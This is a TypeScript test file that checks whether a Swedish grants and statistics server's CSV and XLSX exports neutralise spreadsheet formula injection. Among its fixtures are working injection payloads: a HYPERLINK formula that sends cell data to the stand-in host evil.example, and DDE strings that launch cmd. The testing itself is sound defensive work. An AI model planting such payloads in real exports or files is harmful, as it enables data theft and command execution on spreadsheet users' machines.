// Every CSV export, fetched over HTTP with a hostile value in it: a cell that a spreadsheet would
// run as a formula (=, +, -, @, tab, carriage return) arrives as text, with a leading apostrophe.
// Numbers (amounts, counts) stay numbers. The XLSX twins keep such text as text cells, never formulas.
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Organisation } from "../../server/dist/modules/organisations/organisation.entity";
import { csvCell, renderCsv } from "../../server/dist/shared/csv";
import { type Client, DEMO, startTestApp, type TestApp } from "../helpers/app";
import { draft, FULL_APPLICATION, openCallId, submit } from "../grants/fixtures";

const DAY = 86_400_000;
const TITLE = `=HYPERLINK("http://evil.example/?d="&A1,"Öppna ansökan")`;
const MEETING = `-2+3+cmd|' /C calc'!A0`;
const ALE = `@SUM(1+1)*cmd|' /C calc'!A0`;
const TRAINING_COUNTY = `=1+1`;
const FUNDING_COUNTY = `+1+1`;
const TAB = `\t=1+1`;
const CR = `\r=1+1`;

let t: TestApp;
let callId: string;
let networkId: string;
let roundId: string;
let aleAllotment: number;

/** The cells of a CSV export, as a spreadsheet would split them, after the UTF-8 byte-order mark. */
function cells(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.subarray(3).toString("utf8"), { relax_column_count: true }) as string[][];
}

/** No cell starts a formula, except numbers the export wrote as numbers. */
function expectNoFormula(rows: string[][]) {
  for (const row of rows) {
    for (const cell of row) {
      if (/^-\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  }
}

async function download(client: Client, path: string): Promise<Response> {
  const res = await fetch(`${t.baseUrl}${path}`, { headers: { authorization: `Bearer ${client.token}` } });
  expect(res.status, path).toBe(200);
  return res;
}

async function csvOf(client: Client, path: string): Promise<string[][]> {
  const res = await download(client, path);
  expect(res.headers.get("content-type")).toContain("text/csv");
  const rows = cells(Buffer.from(await res.arrayBuffer()));
  expectNoFormula(rows);
  return rows;
}

async function xlsxOf(client: Client, path: string): Promise<ExcelJS.Workbook> {
  const res = await download(client, path);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeFalsy();
      }),
    ),
  );
  return book;
}

function texts(book: ExcelJS.Workbook): unknown[] {
  const all: unknown[] = [];
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => all.push(cell.value))));
  return all;
}

beforeAll(async () => {
  t = await startTestApp();
  const sos = await t.as(DEMO.handlaggare);
  const lst = await t.as(DEMO.lstO);
  const ale = await t.as(DEMO.ale);
  const gbg = await t.as(DEMO.goteborg);

  // A grant application with a formula for a title.
  callId = await openCallId(t);
  const nck = await t.as(DEMO.nck);
  const app = await draft(nck, callId, { ...FULL_APPLICATION, title: TITLE });
  expect((await submit(nck, app.id)).errors).toBeUndefined();

  // A network meeting with a formula for a title, held (attendance recorded).
  const networks = await lst.request(`{ networks(convenedByMe: true) { items { id name } } }`);
  networkId = networks.data!.networks.items.find((n: { name: string }) => n.name === "Kvinnofridssamordnare Västra Götaland").id;
  const startsAt = new Date(Date.now() - 2 * DAY);
  const scheduled = await lst.request(`mutation($i: ScheduleMeetingInput!) { scheduleNetworkMeeting(input: $i) { id } }`, {
    i: {
      networkId,
      title: MEETING,
      startsAt: startsAt.toISOString(),
      endsAt: new Date(startsAt.getTime() + 3_600_000).toISOString(),
      location: "Göteborg",
      invite: false,
    },
  });
  expect(scheduled.errors).toBeUndefined();
  const gbgOrg = (await gbg.request(`{ me { organisation { id } } }`)).data!.me.organisation.id;
  const attended = await lst.request(`mutation($m: ID!, $i: [AttendanceInput!]!) { recordMeetingAttendance(meetingId: $m, input: $i) { status } }`, {
    m: scheduled.data!.scheduleNetworkMeeting[0].id,
    i: [{ organisationId: gbgOrg, status: "ATTENDED", people: 2 }],
  });
  expect(attended.errors).toBeUndefined();

  // A development-fund round, allocated and requisitioned by Ale.
  const opened = await sos.request(`mutation($i: OpenDevelopmentFundRoundInput!) { openDevelopmentFundRound(input: $i) { id } }`, {
    i: {
      year: 2020,
      opensAt: new Date(Date.now() - DAY).toISOString(),
      closesAt: new Date(Date.now() + 30 * DAY).toISOString(),
      followUpDueDate: "2021-05-31",
    },
  });
  expect(opened.errors).toBeUndefined();
  roundId = opened.data!.openDevelopmentFundRound.id;
  expect((await sos.request(`mutation($r: ID!) { publishAllocation(roundId: $r) { id } }`, { r: roundId })).errors).toBeUndefined();
  aleAllotment = (await ale.request(`query($r: ID!) { myAllotment(roundId: $r) { allotment { amount } } }`, { r: roundId })).data!.myAllotment.allotment.amount;
  const req = await ale.request(`mutation($i: RequisitionInput!) { requisitionDevelopmentFunds(input: $i) { id } }`, {
    i: {
      roundId,
      amount: aleAllotment,
      contactName: "Samordnare",
      contactEmail: "samordnare@example.se",
      paymentMethod: "BANKGIRO",
      paymentNumber: "5050-1055",
      organisationNumber: "212000-1520",
      plannedUse: [{ category: "SAMORDNING", amount: aleAllotment }],
    },
  });
  expect(req.errors).toBeUndefined();

  // An organisation name is not typed through the API, but exports must not trust it either
  // (it comes from seed files and may one day be edited): Ale gets a formula for a name.
  await t.app.db.manager.update(Organisation, { code: "1440" }, { name: ALE });
});
afterAll(() => t?.close());

describe("CSV exports neutralise formulas", () => {
  it("a call's applications: the title is text, the amount a number", async () => {
    const rows = await csvOf(await t.as(DEMO.handlaggare), `/api/grant-calls/${callId}/applications.csv`);
    const row = rows.find((r) => r[2] === `'${TITLE}`);
    expect(row, JSON.stringify(rows)).toBeDefined();
    expect(row![4]).toBe("900000");
  });

  it("the training statistics: a county code from the address is text", async () => {
    const rows = await csvOf(await t.as(DEMO.vardanalys), `/api/training-statistics.csv?countyCode=${encodeURIComponent(TRAINING_COUNTY)}`);
    expect(rows.find((r) => r[0] === "Län")).toEqual(["Län", `'${TRAINING_COUNTY}`]);
  });

  it("a network's statistics: a meeting title and a member's name are text", async () => {
    const year = new Date(Date.now() - 2 * DAY).getUTCFullYear();
    const rows = await csvOf(await t.as(DEMO.lstO), `/api/networks/${networkId}/statistics.csv?year=${year}`);
    expect(rows.find((r) => r[0] === `'${MEETING}`)?.slice(2)).toEqual(["1", "2"]);
    expect(rows.some((r) => r[0] === `'${ALE}`)).toBe(true);
  });

  it("the national tables: a county code from the address and a kommun's name are text; amounts stay numbers", async () => {
    const analyst = await t.as(DEMO.vardanalys);
    const reflected = await csvOf(analyst, `/api/funding-statistics.csv?year=2020&countyCode=${encodeURIComponent(FUNDING_COUNTY)}`);
    expect(reflected[0]).toEqual(["År", "2020", "Län", `'${FUNDING_COUNTY}`]);
    const rows = await csvOf(analyst, `/api/funding-statistics.csv?year=2020&countyCode=14`);
    const ale = rows.find((r) => r[0] === "1440");
    expect(ale?.[1]).toBe(`'${ALE}`);
    expect(ale?.[4]).toBe(String(aleAllotment));
    const book = await xlsxOf(analyst, `/api/funding-statistics.xlsx?year=2020&countyCode=14`);
    expect(texts(book)).toContain(ALE);
  });

  it("the allocation key: a kommun's name is text, its amount a number", async () => {
    const sos = await t.as(DEMO.handlaggare);
    const rows = await csvOf(sos, `/api/development-fund-rounds/${roundId}/allocation.csv`);
    expect(rows[0]).toEqual(["Kod", "Namn", "Typ", "Invånare", "Belopp (kr)"]);
    const ale = rows.find((r) => r[0] === "1440");
    expect(ale?.[1]).toBe(`'${ALE}`);
    expect(ale?.[4]).toBe(String(aleAllotment));
    expect(texts(await xlsxOf(sos, `/api/development-fund-rounds/${roundId}/allocation.xlsx`))).toContain(ALE);
  });

  it("the payment list: a recipient's name is text, the amount a number", async () => {
    const rows = await csvOf(await t.as(DEMO.handlaggare), `/api/development-fund-rounds/${roundId}/payments.csv`);
    const ale = rows.find((r) => r[1] === "1440");
    expect(ale?.[2]).toBe(`'${ALE}`);
    expect(ale?.slice(3)).toEqual(["BANKGIRO", "5050-1055", String(aleAllotment), "att betala"]);
  });

  it("the payment file for the finance system: a recipient's name is text, the amount a number", async () => {
    const rows = await csvOf(await t.as(DEMO.handlaggare), `/api/development-fund-rounds/${roundId}/payment-file.csv`);
    expect(rows[0]).toEqual(["Mottagare", "Organisationsnummer", "Betalsätt", "Kontonummer", "Belopp (kr)", "Diarienummer", "Referens"]);
    const ale = rows.find((r) => r[0] === `'${ALE}`);
    expect(ale?.slice(2, 5)).toEqual(["BANKGIRO", "5050-1055", String(aleAllotment)]);
  });
});

describe("the shared CSV cell", () => {
  it("prefixes text that starts a formula, and nothing else", () => {
    for (const hostile of [TITLE, MEETING, ALE, TAB, CR, "-10", "+46 31 123 45", "＝1+1"]) expect(csvCell(hostile)).toBe(`'${hostile}`);
    for (const plain of ["Ale", "2020", "Län 14", " =not first", "a=b", "", "12 %"]) expect(csvCell(plain)).toBe(plain);
  });

  it("keeps numbers numbers, negative ones too, and writes nothing for null", () => {
    expect(csvCell(-500)).toBe(-500);
    expect(csvCell(0)).toBe(0);
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(Number.NaN)).toBe("");
    const text = renderCsv([[-500, "-500", TAB, CR]], { header: ["=a", "b", "c", "d"] });
    expect(cells(Buffer.from(text, "utf8"))).toEqual([
      ["'=a", "b", "c", "d"],
      ["-500", "'-500", `'${TAB}`, `'${CR}`],
    ]);
  });
});
